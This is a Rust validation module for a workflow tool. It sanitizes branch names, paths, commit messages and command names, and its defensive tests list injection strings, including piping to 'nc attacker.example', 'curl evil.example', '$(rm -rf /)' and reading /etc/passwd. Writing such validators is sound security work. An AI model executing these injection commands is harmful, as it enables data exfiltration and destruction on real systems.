//! Input validation for externally-supplied values.
//!
//! Every string that can become a path, branch name, commit message, or
//! delegated-command argument passes through this crate before it reaches a
//! delegated operation. Validators are pure functions: they either return the
//! sanitized value wrapped in [`Validated`] or fail with a typed
//! [`ValidationError`]. No other component may bypass this choke point —
//! [`Validated`] cannot be constructed outside this crate.

use std::sync::LazyLock;

use regex::Regex;
use serde::Serialize;

pub use devflow_utils::error::ValidationError;

/// Shell metacharacters rejected in any value reachable by a delegated
/// command. Newlines are included: delegated tools treat them as separators.
const SHELL_METACHARACTERS: &[char] = &[
    ';', '|', '&', '$', '`', '(', ')', '<', '>', '{', '}', '\n', '\r',
];

/// Reserved branch names, matched case-insensitively.
const RESERVED_BRANCH_NAMES: &[&str] = &["HEAD", "main", "master"];

const MAX_PROMPT_LEN: usize = 100_000;
const MAX_PATH_LEN: usize = 4_096;
const MAX_BRANCH_LEN: usize = 255;
const MAX_COMMIT_MESSAGE_LEN: usize = 5_000;
const MAX_NUMERIC_ID_LEN: usize = 10;
const MAX_RUN_ID_LEN: usize = 16;
const MAX_COMMAND_NAME_LEN: usize = 64;
const MAX_URL_LEN: usize = 2_048;
const MAX_NUMERIC_ID_VALUE: u64 = 10_000_000_000;

static BRANCH_NAME_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[A-Za-z0-9_/-]+$").unwrap());
static RUN_ID_RE: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"^RUN-[A-Z0-9]{4,12}$").unwrap());
static COMMAND_NAME_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[a-z][a-z0-9_-]*$").unwrap());

/// A value that has passed validation.
///
/// The private field is the enforcement mechanism: downstream components
/// accept `&Validated` for anything command- or path-reachable, so an
/// unvalidated string cannot be smuggled in.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(transparent)]
pub struct Validated(String);

impl Validated {
    #[must_use]
    pub fn as_str(&self) -> &str {
        &self.0
    }

    #[must_use]
    pub fn into_inner(self) -> String {
        self.0
    }
}

impl std::fmt::Display for Validated {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

impl AsRef<str> for Validated {
    fn as_ref(&self) -> &str {
        &self.0
    }
}

/// The declared kind of an externally-supplied value.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum InputKind {
    Prompt,
    FilePath,
    BranchName,
    CommitMessage,
    NumericId,
    RunId,
    CommandName,
    Url,
}

/// Allow-lists consulted by the path and command validators.
///
/// Built once from configuration and threaded through; validators themselves
/// stay pure.
#[derive(Debug, Clone, Default)]
pub struct ValidationContext {
    /// Root prefixes a relative path may live under.
    pub allowed_path_roots: Vec<String>,
    /// Short command names that may be delegated.
    pub allowed_commands: Vec<String>,
}

/// Validate `raw` according to its declared kind.
pub fn validate(
    kind: InputKind,
    raw: &str,
    ctx: &ValidationContext,
) -> Result<Validated, ValidationError> {
    match kind {
        InputKind::Prompt => validate_prompt(raw),
        InputKind::FilePath => validate_file_path(raw, &ctx.allowed_path_roots),
        InputKind::BranchName => validate_branch_name(raw),
        InputKind::CommitMessage => validate_commit_message(raw),
        InputKind::NumericId => validate_numeric_id(raw),
        InputKind::RunId => validate_run_id(raw),
        InputKind::CommandName => validate_command_name(raw, &ctx.allowed_commands),
        InputKind::Url => validate_url(raw),
    }
}

fn reject_null_bytes(field: &'static str, raw: &str) -> Result<(), ValidationError> {
    if raw.contains('\0') {
        return Err(ValidationError::new(field, "null bytes not allowed", raw));
    }
    Ok(())
}

fn reject_shell_metacharacters(field: &'static str, raw: &str) -> Result<(), ValidationError> {
    if let Some(c) = raw.chars().find(|c| SHELL_METACHARACTERS.contains(c)) {
        return Err(ValidationError::new(
            field,
            format!("shell metacharacter {c:?} not allowed"),
            raw,
        ));
    }
    Ok(())
}

fn reject_over_length(
    field: &'static str,
    raw: &str,
    max: usize,
) -> Result<(), ValidationError> {
    if raw.chars().count() > max {
        return Err(ValidationError::new(
            field,
            format!("exceeds maximum length of {max} characters"),
            raw,
        ));
    }
    Ok(())
}

/// Validate free-form prompt text.
///
/// Prompts go to the agent as data, never through a shell, so code snippets
/// with special characters are allowed; only null bytes, emptiness, and
/// oversize are rejected.
pub fn validate_prompt(raw: &str) -> Result<Validated, ValidationError> {
    const FIELD: &str = "prompt";
    reject_null_bytes(FIELD, raw)?;
    reject_over_length(FIELD, raw, MAX_PROMPT_LEN)?;
    if raw.trim().is_empty() {
        return Err(ValidationError::new(FIELD, "must not be empty", raw));
    }
    Ok(Validated(raw.to_string()))
}

/// Validate a relative file path against an allow-listed set of root
/// prefixes. Any `..` segment is rejected regardless of where it appears.
pub fn validate_file_path(
    raw: &str,
    allowed_roots: &[String],
) -> Result<Validated, ValidationError> {
    const FIELD: &str = "file_path";
    reject_null_bytes(FIELD, raw)?;
    reject_shell_metacharacters(FIELD, raw)?;
    reject_over_length(FIELD, raw, MAX_PATH_LEN)?;
    if raw.is_empty() {
        return Err(ValidationError::new(FIELD, "must not be empty", raw));
    }
    if raw.starts_with('/') || raw.starts_with('\\') {
        return Err(ValidationError::new(
            FIELD,
            "absolute paths not allowed",
            raw,
        ));
    }
    if raw.split(['/', '\\']).any(|segment| segment == "..") {
        return Err(ValidationError::new(
            FIELD,
            "directory traversal ('..') not allowed",
            raw,
        ));
    }
    let within_root = allowed_roots.iter().any(|root| {
        raw == root || raw.strip_prefix(root.as_str()).is_some_and(|rest| rest.starts_with('/'))
    });
    if !within_root {
        return Err(ValidationError::new(
            FIELD,
            format!("must start with one of the allowed roots: {allowed_roots:?}"),
            raw,
        ));
    }
    Ok(Validated(raw.to_string()))
}

fn check_branch_syntax(field: &'static str, raw: &str) -> Result<(), ValidationError> {
    reject_null_bytes(field, raw)?;
    reject_over_length(field, raw, MAX_BRANCH_LEN)?;
    if raw.is_empty() {
        return Err(ValidationError::new(field, "must not be empty", raw));
    }
    if !BRANCH_NAME_RE.is_match(raw) {
        return Err(ValidationError::new(
            field,
            "only alphanumerics, '_', '/', and '-' are allowed",
            raw,
        ));
    }
    if raw.starts_with(['/', '-']) || raw.ends_with(['/', '-']) {
        return Err(ValidationError::new(
            field,
            "must not start or end with a separator",
            raw,
        ));
    }
    if raw.contains("//") || raw.contains("--") {
        return Err(ValidationError::new(
            field,
            "doubled separators not allowed",
            raw,
        ));
    }
    Ok(())
}

/// Validate a git branch name the workflow will create or switch to.
pub fn validate_branch_name(raw: &str) -> Result<Validated, ValidationError> {
    const FIELD: &str = "branch_name";
    check_branch_syntax(FIELD, raw)?;
    if RESERVED_BRANCH_NAMES
        .iter()
        .any(|reserved| raw.eq_ignore_ascii_case(reserved))
    {
        return Err(ValidationError::new(
            FIELD,
            format!("'{raw}' is a reserved branch name"),
            raw,
        ));
    }
    Ok(Validated(raw.to_string()))
}

/// Validate a branch used as a change-request target.
///
/// Reserved names are permitted here: targeting the default branch is the
/// normal case, only creating or switching to one is blocked.
pub fn validate_target_branch(raw: &str) -> Result<Validated, ValidationError> {
    check_branch_syntax("target_branch", raw)?;
    Ok(Validated(raw.to_string()))
}

/// Validate a commit message. Multi-line messages are fine; anything a shell
/// would interpret is not, since the message is handed to a delegated
/// command.
pub fn validate_commit_message(raw: &str) -> Result<Validated, ValidationError> {
    const FIELD: &str = "commit_message";
    reject_null_bytes(FIELD, raw)?;
    reject_over_length(FIELD, raw, MAX_COMMIT_MESSAGE_LEN)?;
    let trimmed = raw.trim();
    if trimmed.is_empty() {
        return Err(ValidationError::new(FIELD, "must not be empty", raw));
    }
    // Newlines are legitimate in commit bodies; every other metacharacter is
    // rejected.
    if let Some(c) = trimmed
        .chars()
        .find(|c| SHELL_METACHARACTERS.contains(c) && *c != '\n' && *c != '\r')
    {
        return Err(ValidationError::new(
            FIELD,
            format!("shell metacharacter {c:?} not allowed"),
            raw,
        ));
    }
    Ok(Validated(trimmed.to_string()))
}

/// Validate a numeric issue identifier: digits only, bounded range.
pub fn validate_numeric_id(raw: &str) -> Result<Validated, ValidationError> {
    const FIELD: &str = "numeric_id";
    reject_null_bytes(FIELD, raw)?;
    reject_over_length(FIELD, raw, MAX_NUMERIC_ID_LEN)?;
    if raw.is_empty() || !raw.chars().all(|c| c.is_ascii_digit()) {
        return Err(ValidationError::new(FIELD, "must be digits only", raw));
    }
    let value: u64 = raw
        .parse()
        .map_err(|_| ValidationError::new(FIELD, "out of range", raw))?;
    if value == 0 || value > MAX_NUMERIC_ID_VALUE {
        return Err(ValidationError::new(
            FIELD,
            format!("must be between 1 and {MAX_NUMERIC_ID_VALUE}"),
            raw,
        ));
    }
    Ok(Validated(raw.to_string()))
}

/// Validate a run identifier against the fixed `RUN-` prefix pattern.
pub fn validate_run_id(raw: &str) -> Result<Validated, ValidationError> {
    const FIELD: &str = "run_id";
    reject_null_bytes(FIELD, raw)?;
    reject_over_length(FIELD, raw, MAX_RUN_ID_LEN)?;
    if !RUN_ID_RE.is_match(raw) {
        return Err(ValidationError::new(
            FIELD,
            "must match RUN-<4..12 uppercase alphanumerics>",
            raw,
        ));
    }
    Ok(Validated(raw.to_string()))
}

/// Validate a short delegated-command name against an allow-list.
pub fn validate_command_name(
    raw: &str,
    allowed: &[String],
) -> Result<Validated, ValidationError> {
    const FIELD: &str = "command_name";
    reject_null_bytes(FIELD, raw)?;
    reject_over_length(FIELD, raw, MAX_COMMAND_NAME_LEN)?;
    if !COMMAND_NAME_RE.is_match(raw) {
        return Err(ValidationError::new(
            FIELD,
            "must be a lowercase command name",
            raw,
        ));
    }
    if !allowed.iter().any(|a| a == raw) {
        return Err(ValidationError::new(
            FIELD,
            format!("'{raw}' is not in the command allow-list"),
            raw,
        ));
    }
    Ok(Validated(raw.to_string()))
}

/// Validate a documentation URL: http(s) only, no whitespace.
pub fn validate_url(raw: &str) -> Result<Validated, ValidationError> {
    const FIELD: &str = "url";
    reject_null_bytes(FIELD, raw)?;
    reject_over_length(FIELD, raw, MAX_URL_LEN)?;
    if !(raw.starts_with("http://") || raw.starts_with("https://")) {
        return Err(ValidationError::new(
            FIELD,
            "only http and https schemes are allowed",
            raw,
        ));
    }
    if raw.chars().any(char::is_whitespace) {
        return Err(ValidationError::new(FIELD, "whitespace not allowed", raw));
    }
    Ok(Validated(raw.to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ctx() -> ValidationContext {
        ValidationContext {
            allowed_path_roots: vec!["specs".into(), "docs".into(), "src".into()],
            allowed_commands: vec!["git".into(), "gh".into()],
        }
    }

    #[test]
    fn valid_prompt_passes() {
        let prompt = "Implement the authentication feature";
        assert_eq!(validate_prompt(prompt).unwrap().as_str(), prompt);
    }

    #[test]
    fn prompt_with_code_snippets_is_allowed() {
        let prompt = "Fix this: if (x > 5) { echo 'test'; }";
        assert!(validate_prompt(prompt).is_ok());
    }

    #[test]
    fn empty_and_oversized_prompts_rejected() {
        assert!(validate_prompt("").is_err());
        assert!(validate_prompt("   ").is_err());
        assert!(validate_prompt(&"A".repeat(100_001)).is_err());
    }

    #[test]
    fn null_byte_rejected_everywhere() {
        let ctx = ctx();
        assert!(validate_prompt("test\0malicious").is_err());
        assert!(validate_file_path("specs/a\0.md", &ctx.allowed_path_roots).is_err());
        assert!(validate_branch_name("feat\0ure").is_err());
        assert!(validate_commit_message("fix: \0").is_err());
    }

    #[test]
    fn valid_paths_pass() {
        let ctx = ctx();
        assert!(validate_file_path("specs/issue-001.md", &ctx.allowed_path_roots).is_ok());
        assert!(validate_file_path("docs/guide/setup.md", &ctx.allowed_path_roots).is_ok());
    }

    #[test]
    fn path_traversal_rejected() {
        let ctx = ctx();
        let err = validate_file_path("specs/../../../etc/passwd", &ctx.allowed_path_roots)
            .unwrap_err();
        assert_eq!(err.field, "file_path");
        assert!(err.reason.contains("traversal"));
    }

    #[test]
    fn absolute_and_unlisted_paths_rejected() {
        let ctx = ctx();
        assert!(validate_file_path("/etc/passwd", &ctx.allowed_path_roots).is_err());
        assert!(validate_file_path("unauthorized/file.md", &ctx.allowed_path_roots).is_err());
        // Prefix match is per-segment: "specsx/f" does not live under "specs".
        assert!(validate_file_path("specsx/file.md", &ctx.allowed_path_roots).is_err());
    }

    #[test]
    fn valid_branch_names_pass() {
        for branch in ["feature/issue-001-auth", "feature/user_auth", "fix/123"] {
            assert!(validate_branch_name(branch).is_ok(), "rejected {branch}");
        }
    }

    #[test]
    fn branch_with_invalid_characters_rejected() {
        for branch in [
            "feature@issue",
            "feature#123",
            "feature;rm -rf",
            "feature|cat /etc/passwd",
            "feature/../../etc",
        ] {
            let err = validate_branch_name(branch).unwrap_err();
            assert_eq!(err.field, "branch_name", "for {branch}");
        }
    }

    #[test]
    fn branch_separator_rules() {
        assert!(validate_branch_name("/feature").is_err());
        assert!(validate_branch_name("feature/").is_err());
        assert!(validate_branch_name("feature//test").is_err());
        assert!(validate_branch_name("feature--test").is_err());
    }

    #[test]
    fn reserved_branch_names_rejected() {
        for branch in ["HEAD", "main", "master", "Master", "MAIN"] {
            let err = validate_branch_name(branch).unwrap_err();
            assert!(err.reason.contains("reserved"), "for {branch}");
        }
    }

    #[test]
    fn target_branch_allows_reserved_names() {
        for branch in ["main", "master", "develop", "release/2024"] {
            assert!(validate_target_branch(branch).is_ok(), "rejected {branch}");
        }
    }

    #[test]
    fn target_branch_keeps_the_syntax_rules() {
        for branch in ["main; rm -rf /", "main/../../etc", "", "/main", "main--x"] {
            let err = validate_target_branch(branch).unwrap_err();
            assert_eq!(err.field, "target_branch", "for {branch}");
        }
    }

    #[test]
    fn commit_injection_patterns_rejected() {
        for message in [
            "feat: $(rm -rf /)",
            "fix: `cat /etc/passwd`",
            "chore: test | nc attacker.example 1234",
            "feat: test && rm -rf /",
            "chore: test; curl evil.example",
        ] {
            assert!(validate_commit_message(message).is_err(), "accepted {message}");
        }
    }

    #[test]
    fn multiline_commit_message_is_allowed() {
        let message = "feat: add auth\n\nImplements login and logout.";
        assert!(validate_commit_message(message).is_ok());
    }

    #[test]
    fn numeric_id_bounds() {
        assert!(validate_numeric_id("1").is_ok());
        assert!(validate_numeric_id("999999").is_ok());
        assert!(validate_numeric_id("0").is_err());
        assert!(validate_numeric_id("-1").is_err());
        assert!(validate_numeric_id("12a").is_err());
        assert!(validate_numeric_id("1 OR 1=1").is_err());
        assert!(validate_numeric_id("12345678901").is_err());
    }

    #[test]
    fn run_id_pattern() {
        assert!(validate_run_id("RUN-AB12").is_ok());
        assert!(validate_run_id("run-ab12").is_err());
        assert!(validate_run_id("RUN-").is_err());
        assert!(validate_run_id("ADW-AB12").is_err());
        assert!(validate_run_id("RUN-AB12; rm -rf /").is_err());
    }

    #[test]
    fn command_allow_list_enforced() {
        let ctx = ctx();
        assert!(validate_command_name("git", &ctx.allowed_commands).is_ok());
        let err = validate_command_name("curl", &ctx.allowed_commands).unwrap_err();
        assert!(err.reason.contains("allow-list"));
        assert!(validate_command_name("git; rm", &ctx.allowed_commands).is_err());
    }

    #[test]
    fn url_scheme_enforced() {
        assert!(validate_url("https://docs.example.com/api").is_ok());
        assert!(validate_url("http://localhost:8000/docs").is_ok());
        for url in ["file:///etc/passwd", "ftp://example.com", "javascript:alert(1)"] {
            assert!(validate_url(url).is_err(), "accepted {url}");
        }
    }

    #[test]
    fn dispatch_routes_by_kind() {
        let ctx = ctx();
        assert!(validate(InputKind::BranchName, "feature/x", &ctx).is_ok());
        assert!(validate(InputKind::RunId, "RUN-AB12", &ctx).is_ok());
        assert_eq!(
            validate(InputKind::BranchName, "feature/../../etc", &ctx)
                .unwrap_err()
                .field,
            "branch_name"
        );
    }

    mod properties {
        use super::*;
        use proptest::prelude::*;

        proptest! {
            #[test]
            fn accepted_branch_names_are_shell_safe(name in "[A-Za-z0-9_]{1,10}(/[A-Za-z0-9_]{1,10}){0,3}") {
                if let Ok(validated) = validate_branch_name(&name) {
                    prop_assert!(!validated.as_str().chars().any(|c| SHELL_METACHARACTERS.contains(&c)));
                    prop_assert!(!validated.as_str().contains('\0'));
                }
            }

            #[test]
            fn metacharacter_suffix_always_rejected(base in "[A-Za-z0-9]{1,20}", meta in prop::sample::select(vec![';', '|', '&', '$', '`'])) {
                let name = format!("{base}{meta}");
                prop_assert!(validate_branch_name(&name).is_err());
                prop_assert!(validate_commit_message(&name).is_err());
            }
        }
    }
}
